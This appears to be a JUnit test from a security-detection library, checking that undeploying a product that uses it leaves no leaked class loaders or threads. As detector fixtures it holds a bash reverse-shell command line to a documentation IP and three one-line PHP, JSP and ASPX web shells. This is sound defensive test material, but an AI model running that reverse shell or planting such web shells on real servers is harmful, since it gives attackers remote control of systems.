package io.hivesec.examples;

import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.Hive;
import io.hivesec.alert.AlertQuery;
import io.hivesec.alert.Report;
import io.hivesec.artifact.ContainerConfig;
import io.hivesec.artifact.FileArtifact;
import io.hivesec.detectors.source.EventFormat;
import io.hivesec.detectors.source.EventReader;
import io.hivesec.dispositions.journal.Journal;
import io.hivesec.event.Container;
import io.hivesec.event.Context;
import io.hivesec.event.Process;
import io.hivesec.event.ProcessStarted;
import io.hivesec.json.HiveModule;
import io.hivesec.triage.IndicatorFiles;
import io.hivesec.whitelist.RuleWhitelist;
import java.io.ByteArrayInputStream;
import java.io.File;
import java.io.IOException;
import java.io.InputStream;
import java.lang.ref.WeakReference;
import java.net.URL;
import java.net.URLClassLoader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** What an application server does: a product with a Hive in it comes and goes while the server's threads stay. */
@Timeout(120)
final class UndeployTest {
    @TempDir
    private Path folder;

    @Test
    void close_productWithAHive_leavesNeitherClassesNorThreads() throws Exception {
        Set<Thread> before = threads();
        List<WeakReference<ClassLoader>> loaders = new ArrayList<>();
        for (int i = 0; i < 3; i++) {
            loaders.add(deployed());
        }
        releaseSlots();
        long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(60);
        while (System.nanoTime() < end && loaders.stream().anyMatch(loader -> loader.get() != null)) {
            System.gc();
            // Collection is asked for, not commanded.
            TimeUnit.MILLISECONDS.sleep(20);
        }
        assertThat(loaders).allSatisfy(loader -> assertThat(loader.get()).isNull());
        assertThat(threads()).filteredOn(thread -> !before.contains(thread)).isEmpty();
    }

    private static Set<Thread> threads() {
        return Thread.getAllStackTraces().keySet().stream()
                .filter(thread -> thread.getName().startsWith("hive-"))
                .collect(Collectors.toSet());
    }

    private WeakReference<ClassLoader> deployed() throws Exception {
        List<URL> path = new ArrayList<>();
        for (String entry : System.getProperty("java.class.path").split(File.pathSeparator)) {
            path.add(Path.of(entry).toUri().toURL());
        }
        try (URLClassLoader loader =
                new URLClassLoader(path.toArray(URL[]::new), ClassLoader.getPlatformClassLoader())) {
            Class<?> product = loader.loadClass(Product.class.getName());
            assertThat(product.getClassLoader()).isSameAs(loader);
            product.getMethod("run", Path.class).invoke(null, folder);
            return new WeakReference<>(loader);
        }
    }

    /**
     * The JDK keeps the type in the record class that was compared for the first time last, in one slot for all of Java (the cache of
     * a method handle of {@code java.lang.runtime.ObjectMethods}): strongly on 17, softly on 25. That of a record of ours takes the
     * place of the product's.
     */
    private static void releaseSlots() {
        Slot slot = new Slot(new UndeployTest());
        assertThat(slot.equals(new Slot(new UndeployTest()))).isFalse();
        assertThat(slot.hashCode()).isNotZero();
        assertThat(slot.toString()).isNotEmpty();
    }

    private record Slot(UndeployTest part) {}

    /** A product that uses what it can of Hive, on one of the server's threads. */
    public static final class Product {
        private Product() {}

        /** Comes and goes. */
        public static void run(Path folder) throws Exception {
            Path rules = Files.writeString(folder.resolve("whitelist.json"), "{\"version\": 1, \"rules\": []}");
            Path indicators = Files.writeString(folder.resolve("bad.csv"), "203.0.113.9,bad\n");
            Path written = Files.createTempDirectory(folder, "journal");
            try (RuleWhitelist whitelist = RuleWhitelist.open(rules);
                    Journal journal = Journal.open(written, new byte[0], Clock.systemUTC());
                    Hive hive = Hive.builder()
                            .plugins(Product.class.getClassLoader())
                            .whitelist(whitelist)
                            .threatIntelligence(IndicatorFiles.open(List.of(indicators)))
                            .build()) {
                require(journal.entries().isEmpty(), "a new journal is empty");
                require(!watch(hive).alerts().isEmpty(), "a reverse shell is found");
                hive.scan(file("a.php", "<?php eval($_POST['x']);"));
                hive.scan(file("a.jsp", "<% out.print(request.getParameter(\"c\")); %>"));
                hive.scan(file("a.aspx", "<%@ Page Language=\"C#\" %><% Response.Write(Request[\"c\"]); %>"));
                hive.scan(ContainerConfig.of(
                        Files.writeString(folder.resolve("web.json"), "{\"HostConfig\":{\"Privileged\":true}}")));
                try (InputStream own = Product.class.getResourceAsStream("UndeployTest$Product.class")) {
                    hive.scan(FileArtifact.of("Product.class", own.readAllBytes()));
                }
                HiveModule.mapper()
                        .writeValueAsString(
                                hive.alerts().list(AlertQuery.ALL, 10).get(0));
                hive.restore(hive.snapshot());
            }
        }

        private static Report watch(Hive hive) throws IOException {
            Process shell = Process.builder()
                    .pid(7)
                    .executable("/bin/bash")
                    .arguments("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
                    .build();
            ProcessStarted started = new ProcessStarted(Context.of(Instant.EPOCH, Container.HOST, shell));
            String line = HiveModule.mapper().writeValueAsString(started);
            List<Report> reports = new ArrayList<>();
            EventReader.of(EventFormat.HIVE)
                    .read(
                            new ByteArrayInputStream(line.getBytes(StandardCharsets.UTF_8)),
                            event -> reports.add(hive.inspect(event)));
            return reports.get(0);
        }

        private static FileArtifact file(String name, String text) {
            return FileArtifact.of(name, text.getBytes(StandardCharsets.UTF_8));
        }

        private static void require(boolean holds, String what) {
            if (!holds) {
                throw new AssertionError(what);
            }
        }
    }
}
